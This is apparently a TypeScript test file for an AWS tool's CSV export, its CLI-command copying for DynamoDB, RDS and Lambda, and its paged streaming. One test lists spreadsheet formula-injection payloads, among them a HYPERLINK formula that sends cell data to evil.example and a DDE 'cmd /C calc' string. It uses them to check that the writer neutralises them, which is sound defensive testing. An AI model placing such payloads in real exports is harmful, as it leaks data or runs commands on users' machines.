import * as assert from 'node:assert/strict';
import { formatCliCommand } from '../../src/actions/cliCommand';
import { backupListCli, describeBackupCli } from '../../src/dynamodb/cli';
import { cellText, csvColumns, csvLine } from '../../src/export/csv';
import { listCommand, startingToken } from '../../src/export/cliList';
import { executionListCli, getExecutionCli } from '../../src/lambda/cli';
import { backtrackListCli, describeBacktrackCli } from '../../src/rds/cli';
import type { Page } from '../../src/tree/pagedList';
import { parseCsv } from '../csvReader';
import { streamPages } from '../../src/tree/pageStream';

const named = { connection: { profile: 'prod', profileExplicit: true, region: 'eu-west-1' } };

describe('Export: the CSV writer', () => {
  it('quotes fields as RFC 4180 says and ends every record with CRLF', () => {
    assert.equal(
      csvLine(['plain', 'with,comma', 'with "quotes"', 'two\nlines', 'cr\rhere', '']),
      'plain,"with,comma","with ""quotes""","two\nlines","cr\rhere",\r\n',
    );
    const values = ['a,b', '"', 'x\r\ny', 'ü ✓', ' spaced '];
    assert.deepEqual(parseCsv(csvLine(values)), [values]);
  });

  it('writes times as ISO 8601, numbers and booleans raw, nothing as an empty cell, nested values as JSON', () => {
    assert.equal(cellText(new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 6))), '2026-01-02T03:04:05.006Z');
    assert.equal(cellText(5_000_000), '5000000');
    assert.equal(cellText(-5), '-5');
    assert.equal(cellText(0.5), '0.5');
    assert.equal(cellText(true), 'true');
    assert.equal(cellText(undefined), '');
    assert.equal(cellText(null), '');
    assert.equal(cellText([{ Name: 'a' }]), '[{"Name":"a"}]');
  });

  it('never lets hostile text become a spreadsheet formula: text starting with = + - @ tab or CR gets a leading apostrophe', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    for (const text of hostile) {
      const [[cell]] = parseCsv(csvLine([text]));
      assert.equal(cell, `'${text}`, JSON.stringify(text));
    }
    // Inside the text, or a typed number, is not a formula start.
    assert.equal(cellText('a=b'), 'a=b');
    assert.equal(cellText(-12), '-12');
  });

  it('writes the header from the API field names and each item in that order, missing fields empty', () => {
    const csv = csvColumns<Record<string, unknown>>(['BackupArn', 'BackupName', 'BackupSizeBytes', 'BackupCreationDateTime']);
    assert.equal(csv.header, 'BackupArn,BackupName,BackupSizeBytes,BackupCreationDateTime\r\n');
    const line = csv.line({ BackupName: 'nightly, full', BackupArn: 'arn:x', BackupCreationDateTime: new Date(0), Extra: 'ignored' });
    assert.equal(line, 'arn:x,"nightly, full",,1970-01-01T00:00:00.000Z\r\n');
  });
});

describe("Copy as AWS CLI Command: the services' mappings", () => {
  it('DynamoDB: list-backups with every filter, describe-backup for a panel', () => {
    const cli = backupListCli({ table: 'Orders', backupType: 'ALL', after: '2026-01-01T00:00:00.000Z', before: '2026-02-01T00:00:00.000Z' });
    assert.equal(cli.client, 'dynamodb');
    assert.equal(
      formatCliCommand(cli.command, named),
      'aws dynamodb list-backups --table-name Orders --backup-type ALL --time-range-lower-bound 2026-01-01T00:00:00.000Z --time-range-upper-bound 2026-02-01T00:00:00.000Z --region eu-west-1 --profile prod',
    );
    assert.equal(formatCliCommand(backupListCli({}).command, named), 'aws dynamodb list-backups --region eu-west-1 --profile prod');
    assert.equal(
      formatCliCommand(describeBackupCli('arn:aws:dynamodb:eu-west-1:123456789012:table/Orders/backup/01700000000000-abcdef12'), named),
      'aws dynamodb describe-backup --backup-arn arn:aws:dynamodb:eu-west-1:123456789012:table/Orders/backup/01700000000000-abcdef12 --region eu-west-1 --profile prod',
    );
  });

  it('RDS: describe-db-cluster-backtracks of the cluster with the filters as JSON, and of one backtrack for a panel', () => {
    const cli = backtrackListCli('orders-aurora', { backtrackId: 'abc', statuses: ['completed', 'failed'], backtrackIds: ['x1'] });
    assert.equal(
      formatCliCommand(cli.command, named),
      `aws rds describe-db-cluster-backtracks --db-cluster-identifier orders-aurora --backtrack-identifier abc --filters '[{"Name":"db-cluster-backtrack-status","Values":["completed","failed"]},{"Name":"db-cluster-backtrack-id","Values":["x1"]}]' --region eu-west-1 --profile prod`,
    );
    assert.equal(
      formatCliCommand(describeBacktrackCli('orders-aurora', 'a1b2'), named),
      'aws rds describe-db-cluster-backtracks --db-cluster-identifier orders-aurora --backtrack-identifier a1b2 --region eu-west-1 --profile prod',
    );
  });

  it('Lambda: list-durable-executions-by-function with statuses as JSON and the order flag the view sends', () => {
    const cli = executionListCli(
      'order-workflow',
      { qualifier: '$LATEST', name: 'run 1', statuses: ['RUNNING', 'FAILED'], after: '2026-01-01T00:00:00.000Z' },
      true,
    );
    assert.equal(
      formatCliCommand(cli.command, named),
      `aws lambda list-durable-executions-by-function --function-name order-workflow --qualifier '$LATEST' --durable-execution-name 'run 1' --statuses '["RUNNING","FAILED"]' --started-after 2026-01-01T00:00:00.000Z --reverse-order --region eu-west-1 --profile prod`,
    );
    assert.equal(
      formatCliCommand(executionListCli('f', {}, undefined).command, named),
      'aws lambda list-durable-executions-by-function --function-name f --region eu-west-1 --profile prod',
    );
    assert.equal(
      formatCliCommand(executionListCli('f', {}, false).command, named),
      'aws lambda list-durable-executions-by-function --function-name f --no-reverse-order --region eu-west-1 --profile prod',
    );
    assert.equal(
      formatCliCommand(getExecutionCli('arn:aws:lambda:eu-west-1:123456789012:function:f:$LATEST/durable-execution/run/1'), named),
      `aws lambda get-durable-execution --durable-execution-arn 'arn:aws:lambda:eu-west-1:123456789012:function:f:$LATEST/durable-execution/run/1' --region eu-west-1 --profile prod`,
    );
  });

  it("wraps an API token as the CLI's --starting-token (botocore: base64 of json.dumps({input_token: value}))", () => {
    // Expected values computed with Python: base64.b64encode(json.dumps({k: v}).encode()).decode()
    assert.equal(startingToken('Marker', 'AAECAwQFBgcICQ=='), 'eyJNYXJrZXIiOiAiQUFFQ0F3UUZCZ2NJQ1E9PSJ9');
    assert.equal(
      startingToken('ExclusiveStartBackupArn', 'arn:aws:dynamodb:us-east-1:123456789012:table/Orders/backup/01700000000000-abcdef12'),
      'eyJFeGNsdXNpdmVTdGFydEJhY2t1cEFybiI6ICJhcm46YXdzOmR5bmFtb2RiOnVzLWVhc3QtMToxMjM0NTY3ODkwMTI6dGFibGUvT3JkZXJzL2JhY2t1cC8wMTcwMDAwMDAwMDAwMC1hYmNkZWYxMiJ9',
    );
    assert.equal(startingToken('Marker', 'caf\u00e9/\u2028'), 'eyJNYXJrZXIiOiAiY2FmXHUwMGU5L1x1MjAyOCJ9');
    const command = listCommand(backupListCli({ table: 'Orders' }), 'arn:x');
    assert.deepEqual(command.args.at(-1), ['--starting-token', startingToken('ExclusiveStartBackupArn', 'arn:x')]);
    assert.deepEqual(listCommand(backupListCli({}), undefined).args, []);
  });
});

describe('Export: streaming every page through the paging core', () => {
  interface Item {
    id: string;
  }
  const pagesOf = (pages: Record<string, Page<Item>>) => {
    const calls: (string | undefined)[] = [];
    const fetcher = (token: string | undefined): Promise<Page<Item>> => {
      calls.push(token);
      const page = pages[token ?? ''];
      return page ? Promise.resolve(page) : Promise.reject(Object.assign(new Error(`bad token ${token ?? ''}`), { name: 'ValidationException' }));
    };
    return { calls, fetcher };
  };
  const ids = (n: number, from = 0): Item[] => Array.from({ length: n }, (_, i) => ({ id: `i${from + i}` }));

  it('hands on each page once, drops duplicates, stops at the end, and keeps no page', async () => {
    const api = pagesOf({ '': { items: ids(3), nextToken: 'a' }, a: { items: [...ids(1, 2), ...ids(2, 3)], nextToken: 'b' }, b: { items: ids(1, 5) } });
    const seen: string[][] = [];
    const result = await streamPages({
      fetcher: api.fetcher,
      keyOf: (i) => i.id,
      pageSize: 3,
      signal: new AbortController().signal,
      onPage: (items) => void seen.push(items.map((i) => i.id)),
    });
    assert.deepEqual(seen, [['i0', 'i1', 'i2'], ['i3', 'i4'], ['i5']]);
    assert.deepEqual(result, { items: 6, requests: 3 });
    assert.deepEqual(api.calls, [undefined, 'a', 'b']);
  });

  it("starts at the list's start token and treats a token seen before as the end (a cycle)", async () => {
    const api = pagesOf({ s: { items: ids(1), nextToken: 't' }, t: { items: ids(1, 1), nextToken: 's2' }, s2: { items: ids(1, 2), nextToken: 't' } });
    const result = await streamPages({
      fetcher: api.fetcher,
      keyOf: (i) => i.id,
      pageSize: 1,
      startToken: 's',
      signal: new AbortController().signal,
      onPage: () => undefined,
    });
    assert.deepEqual(api.calls, ['s', 't', 's2']);
    assert.equal(result.items, 3);
  });

  it('follows empty pages with a token, but not forever', async () => {
    const pages: Record<string, Page<Item>> = { '': { items: ids(1), nextToken: 'e0' } };
    for (let i = 0; i < 30; i++) {
      pages[`e${i}`] = { items: [], nextToken: `e${i + 1}` };
    }
    const api = pagesOf(pages);
    const result = await streamPages({ fetcher: api.fetcher, keyOf: (i) => i.id, pageSize: 1, signal: new AbortController().signal, onPage: () => undefined });
    assert.equal(result.items, 1);
    assert.equal(result.stoppedAt, 'e10');
    assert.equal(api.calls.length, 11);
  });

  it("stops at once when cancelled, and passes a failed page's error on", async () => {
    const controller = new AbortController();
    const api = pagesOf({ '': { items: ids(2), nextToken: 'a' }, a: { items: ids(2, 2), nextToken: 'gone' } });
    const handed: string[] = [];
    await assert.rejects(
      streamPages({
        fetcher: api.fetcher,
        keyOf: (i) => i.id,
        pageSize: 2,
        signal: controller.signal,
        onPage: (items) => {
          handed.push(...items.map((i) => i.id));
          controller.abort();
        },
      }),
      (error: Error) => error.name === 'AbortError',
    );
    assert.deepEqual(handed, ['i0', 'i1'], 'nothing is handed on after the cancel');
    assert.deepEqual(api.calls, [undefined, 'a'], 'the request already under way is the last one');
    const written: string[] = [];
    await assert.rejects(
      streamPages({
        fetcher: api.fetcher,
        keyOf: (i) => i.id,
        pageSize: 2,
        signal: new AbortController().signal,
        onPage: (items) => void written.push(...items.map((i) => i.id)),
      }),
      /bad token gone/,
    );
    assert.deepEqual(written, ['i0', 'i1', 'i2', 'i3']);
  });
});
